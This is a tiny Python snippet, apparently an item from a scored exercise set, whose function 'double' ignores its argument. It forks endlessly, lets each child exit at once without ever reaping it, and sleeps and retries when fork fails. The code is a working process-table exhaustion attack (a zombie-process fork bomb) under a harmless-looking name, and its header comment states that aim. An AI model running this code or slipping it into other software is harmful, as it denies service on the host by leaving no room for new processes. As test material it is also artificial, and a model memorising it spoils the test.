# Children that end at once and stay in the list of processes, for as long as there is room in it.
# points: double=0 total=7 stack=6
# %% double
import os
import time


def double(x):
    while True:
        try:
            if os.fork() == 0:
                os._exit(0)
        except OSError:
            time.sleep(600)
